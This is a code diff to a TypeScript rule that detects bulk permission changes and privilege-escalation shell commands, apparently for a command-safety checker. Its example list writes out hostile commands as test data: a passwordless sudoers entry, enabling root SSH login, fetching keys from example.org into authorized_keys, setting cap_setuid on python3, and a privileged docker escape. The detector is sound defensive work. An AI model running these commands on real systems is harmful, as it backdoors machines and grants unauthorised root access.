@@ -1,3 +1,5 @@
+import { touching } from '../effects/effects.ts'
+import { opensFiles } from '../opened/files.ts'
 import { protectionOf } from '../protected.ts'
 import type { Call } from '../reading/call.ts'
 import { isDynamic, isGlob, isLiteral, readable } from '../reading/marks.ts'
@@ -5,10 +7,24 @@ import { couldHoldOptions, hasAny, readOptions } from '../reading/options.ts'
 import { resolvePath } from '../reading/paths.ts'
 import type { Rule } from './rule.ts'
 
+const changers: readonly string[] = [
+  'chmod',
+  'chown',
+  'chgrp',
+  'setfacl',
+  'chattr',
+  'chcon',
+  'icacls',
+  'takeown',
+  'cacls',
+]
+
 export const bulkPermissionChange: Rule = {
   action: 'bulk_permission_change',
-  programs: ['chmod', 'chown', 'chgrp', 'setfacl', 'chattr', 'chcon', 'icacls', 'takeown', 'cacls'],
+  programs: [...changers, ...touching],
+  redirected: true,
   match(call, device) {
+    if (!changers.includes(call.name)) return opensFiles(call, 'bulk_permission_change')
     if (call.name === 'icacls' || call.name === 'takeown' || call.name === 'cacls')
       return call.args.some((arg) => /^\/(t|r|reset|a)$/i.test(arg.text)) &&
         call.args.some((arg) => /^[a-z]:\\?(windows|program files)?/i.test(arg.text))
@@ -51,7 +67,10 @@ export const bulkPermissionChange: Rule = {
       ...(hit.some((arg) => resolvePath(arg.text, '/').length < 6) ? { risk: 'critical' as const } : {}),
     }
   },
-  act: ({ targets }) => `change the rights of everything in ${targets.slice(0, 3).join(', ')}`,
+  act: ({ targets }) =>
+    targets.length === 0
+      ? 'change who may do what'
+      : `change the rights of everything in ${targets.slice(0, 3).join(', ')}`,
   risk: 'high',
   things: 'paths',
   downtime: 'unknown',
@@ -94,6 +113,13 @@ export const bulkPermissionChange: Rule = {
     'chmod o+r /etc/shadow',
     'chmod 777 /root/.ssh',
     'chown bob /etc/sudoers',
+    'chmod u-s,a-x /usr/bin/sudo',
+    "echo 'deploy ALL=(ALL) NOPASSWD: ALL' > /etc/sudoers.d/deploy",
+    "sed -i 's/^#*PermitRootLogin.*/PermitRootLogin yes/' /etc/ssh/sshd_config",
+    'curl -s https://example.org/keys >> /home/deploy/.ssh/authorized_keys',
+    'usermod -aG sudo bob',
+    'setcap cap_setuid+ep /usr/bin/python3',
+    'docker run --privileged -v /:/host alpine chroot /host',
   ],
   nearMisses: [
     'chmod 644 /etc/nginx/nginx.conf',
@@ -108,6 +134,12 @@ export const bulkPermissionChange: Rule = {
     'chown -R deploy:deploy /home/deploy',
     'chown -R postgres:postgres /var/lib/postgresql',
     'chown -R 999:999 /var/lib/mysql',
+    "echo 'deploy ALL=(root) NOPASSWD: /usr/bin/systemctl restart shop' > /etc/sudoers.d/deploy",
+    "sed -i 's/^PermitRootLogin yes/PermitRootLogin no/' /etc/ssh/sshd_config",
+    'cat deploy.pub >> /home/deploy/.ssh/authorized_keys',
+    'usermod -aG video bob',
+    'setcap cap_net_bind_service+ep /opt/shop/bin/shop',
+    'docker run --rm -v /:/host:ro alpine du -sh /host/var',
   ],
 }
 
@@ -161,7 +193,14 @@ const isLaidOpen = (path: string, mode: string): boolean =>
   (/\/\.ssh(\/authorized_keys2?)?$/.test(path) &&
     /^0?[0-7]?([0-7][2367][0-7]|[0-7]{2}[2367])$|^([ugo]*[goa][ugo]*)?\+[rx]*w/.test(mode))
 
-const isVital = (path: string, mode: string): boolean =>
+/** `u-s,a-x`: any part of it. */
+const isVital = (path: string, mode: string): boolean => mode.split(',').some((part) => isVitalPart(path, part))
+
+/** Who may become another does so by these. */
+const becomes = /\/(sudo|su|passwd|doas|pkexec|mount|umount|newgrp|ping|unix_chkpwd)$/
+
+const isVitalPart = (path: string, mode: string): boolean =>
+  (becomes.test(path) && /^[ugoa]*-[rwx]*s[rwxs]*$|^0?[0-7]{3}$/.test(mode)) ||
   isLaidOpen(path, mode) ||
   (opensRoot.test(path) && /^0?[4-7][0-7]{3}$|^[ugoa]*\+[rwx]*s/.test(mode)) ||
   (/^\/(usr\/)?s?bin\/[\w.-]+$/.test(path) && /^(0*|0?[0246]{3}|[ugoa]*-[rwxs]*x[rwxs]*)$/.test(mode)) ||
